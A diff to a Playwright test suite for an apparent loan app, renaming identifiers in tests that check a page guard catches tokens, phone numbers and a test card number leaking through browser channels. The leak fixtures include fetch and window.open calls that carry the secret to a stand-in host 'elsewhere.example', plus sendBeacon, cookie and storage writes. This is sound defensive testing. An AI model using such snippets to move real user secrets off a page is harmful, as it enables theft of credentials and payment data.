@@ -2,84 +2,84 @@
 import type { Page } from '@playwright/test';
 import { expect, test } from '../src/fixtures.ts';
 
-type Leak = { way: string; plant(page: Page, secret: string): Promise<unknown>; complaint: RegExp };
+type LeakCase = { channel: string; leak(page: Page, secret: string): Promise<unknown>; violation: RegExp };
 
-const leaks: readonly Leak[] = [
+const leaks: readonly LeakCase[] = [
   {
-    way: 'a line of the console',
-    plant: (page, secret) => page.evaluate((text) => console.info(`it is ${text}`), secret),
-    complaint: /left: console info/,
+    channel: 'a line of the console',
+    leak: (page, secret) => page.evaluate((text) => console.info(`it is ${text}`), secret),
+    violation: /left: console info/,
   },
   {
-    way: 'local storage',
-    plant: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
-    complaint: /left: local storage kept/,
+    channel: 'local storage',
+    leak: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
+    violation: /left: local storage kept/,
   },
   {
-    way: 'a second place of session storage',
-    plant: (page, secret) =>
+    channel: 'a second place of session storage',
+    leak: (page, secret) =>
       page.evaluate((text) => sessionStorage.setItem('kept', JSON.stringify({ a: { b: text } })), secret),
-    complaint: /left: session storage kept/,
+    violation: /left: session storage kept/,
   },
   {
-    way: 'a cookie',
-    plant: (page, secret) =>
+    channel: 'a cookie',
+    leak: (page, secret) =>
       page.evaluate((text) => {
         document.cookie = `kept=${text}`;
       }, secret),
-    complaint: /left: cookie/,
+    violation: /left: cookie/,
   },
   {
-    way: 'the name of the window',
-    plant: (page, secret) =>
+    channel: 'the name of the window',
+    leak: (page, secret) =>
       page.evaluate((text) => {
         window.name = text;
       }, secret),
-    complaint: /left: window name/,
+    violation: /left: window name/,
   },
   {
-    way: 'the title of the page',
-    plant: (page, secret) =>
+    channel: 'the title of the page',
+    leak: (page, secret) =>
       page.evaluate((text) => {
         document.title = `Order ${text}`;
       }, secret),
-    complaint: /left: title/,
+    violation: /left: title/,
   },
   {
-    way: 'the state of the history',
-    plant: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
-    complaint: /left: history state/,
+    channel: 'the state of the history',
+    leak: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
+    violation: /left: history state/,
   },
   {
-    way: 'the name of a database',
-    plant: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
-    complaint: /left: database/,
+    channel: 'the name of a database',
+    leak: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
+    violation: /left: database/,
   },
   {
-    way: 'a request to another origin, which the policy refuses',
-    plant: (page, secret) =>
+    channel: 'a request to another origin, which the policy refuses',
+    leak: (page, secret) =>
       page.evaluate((text) => void fetch(`https://elsewhere.example/?t=${text}`).catch(() => undefined), secret),
-    complaint: /left: console error/,
+    violation: /left: console error/,
   },
   {
-    way: 'the address of a page of another origin',
-    plant: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
-    complaint: /left: another origin: https:\/\/elsewhere\.example/,
+    channel: 'the address of a page of another origin',
+    leak: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
+    violation: /left: another origin: https:\/\/elsewhere\.example/,
   },
   {
-    way: 'a request to our own origin that is none of the lender’s',
-    plant: (page, secret) =>
+    channel: 'a request to our own origin that is none of the lender’s',
+    leak: (page, secret) =>
       page.evaluate((text) => void fetch(`/shell/nowhere?${encodeURIComponent(text)}`).catch(() => undefined), secret),
-    complaint: /left: request \/shell\/nowhere/,
+    violation: /left: request \/shell\/nowhere/,
   },
   {
-    way: 'a report',
-    plant: (page, secret) => page.evaluate((text) => navigator.sendBeacon('/reports', `{"m":"${text}"}`), secret),
-    complaint: /left: body of \/reports/,
+    channel: 'a report',
+    leak: (page, secret) => page.evaluate((text) => navigator.sendBeacon('/reports', `{"m":"${text}"}`), secret),
+    violation: /left: body of \/reports/,
   },
   {
-    way: 'a referrer',
-    plant: (page, secret) =>
+    channel: 'a referrer',
+    leak: (page, secret) =>
       page.evaluate(
         (text) =>
           void fetch('/shell/anywhere', {
@@ -88,56 +88,62 @@ const leaks: readonly Leak[] = [
           }).catch(() => undefined),
         secret,
       ),
-    complaint: /left: referrer at \/shell\/anywhere/,
+    violation: /left: referrer at \/shell\/anywhere/,
   },
 ];
 
 /** Cards are known to the watch from the beginning. */
 const CARD = '4005519200000004';
 
-for (const { way, plant, complaint } of leaks) {
-  test(`the watch notices a token, a telephone and a card number in ${way}`, async ({ borrower, page, watch }) => {
-    const { phone } = await borrower.opens('forget');
+for (const { channel, leak, violation } of leaks) {
+  test(`the watch notices a token, a telephone and a card number in ${channel}`, async ({
+    borrower,
+    page,
+    pageGuard,
+  }) => {
+    const { phone } = await borrower.opensScenario('forget');
     await borrower.types(phone, 'Phone number');
     await borrower.taps('Send Verification Code');
     await borrower.sees('Verification code sent!');
-    const { token } = await borrower.opens('due-rollover');
+    const { token } = await borrower.opensScenario('due-rollover');
     await borrower.seesButton('Rollover Repayment');
-    expect(watch.complaints()).toEqual([]);
-    const complaintsOf = (what: string) => () =>
-      watch.complaints().filter((one) => complaint.test(one) && one.startsWith(what));
+    expect(pageGuard.violations()).toEqual([]);
+    const violationsOf = (secretKind: string) => () =>
+      pageGuard.violations().filter((one) => violation.test(one) && one.startsWith(secretKind));
 
-    for (const [what, secret] of [
+    for (const [secretKind, secret] of [
       ['a token', token],
       ['a number', phone],
     ] as const) {
-      await plant(page, secret);
-      await expect.poll(() => complaintsOf(what)().length, { message: `${what} in ${way}` }).toBeGreaterThan(0);
+      await leak(page, secret);
+      await expect
+        .poll(() => violationsOf(secretKind)().length, { message: `${secretKind} in ${channel}` })
+        .toBeGreaterThan(0);
     }
-    watch.forgetsWhatItSaw();
-    await plant(page, CARD);
-    await expect.poll(() => complaintsOf('a number')().length, { message: `a card in ${way}` }).toBeGreaterThan(0);
-    watch.allows(/./);
+    pageGuard.reset();
+    await leak(page, CARD);
+    await expect.poll(() => violationsOf('a number')().length, { message: `a card in ${channel}` }).toBeGreaterThan(0);
+    pageGuard.allow(/./);
   });
 }
 
-test('the watch notices a number that a navigation writes into the address', async ({ borrower, page, watch }) => {
-  await borrower.opens('due-rollover');
+test('the watch notices a number that a navigation writes into the address', async ({ borrower, page, pageGuard }) => {
+  await borrower.opensScenario('due-rollover');
   await borrower.seesButton('Rollover Repayment');
   await page.evaluate((card) => history.replaceState(null, '', `/order?card=${card}`), CARD);
-  await expect.poll(() => watch.complaints()).toContain('a number left: page address in history');
-  watch.allows(/./);
+  await expect.poll(() => pageGuard.violations()).toContain('a number left: page address in history');
+  pageGuard.allow(/./);
 });
 
-test('the watch is over every window of the phone', async ({ borrower, context, page, watch }) => {
-  await borrower.opensAddress('/nowhere');
+test('the watch is over every window of the phone', async ({ borrower, context, page, pageGuard }) => {
+  await borrower.opensUrl('/nowhere');
   await borrower.seesHeading('There is no page at this address');
   const second = await context.newPage();
   await second.goto('/nowhere');
   await second.evaluate((card) => localStorage.setItem('kept', card), CARD);
   await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second window'))));
-  await expect.poll(() => watch.complaints()).toContain('a number left: local storage kept');
-  await expect.poll(() => watch.complaints().join()).toContain('uncaught: in the second window');
+  await expect.poll(() => pageGuard.violations()).toContain('a number left: local storage kept');
+  await expect.poll(() => pageGuard.violations().join()).toContain('uncaught: in the second window');
   expect(page.url()).toContain('/nowhere');
-  watch.allows(/./);
+  pageGuard.allow(/./);
 });
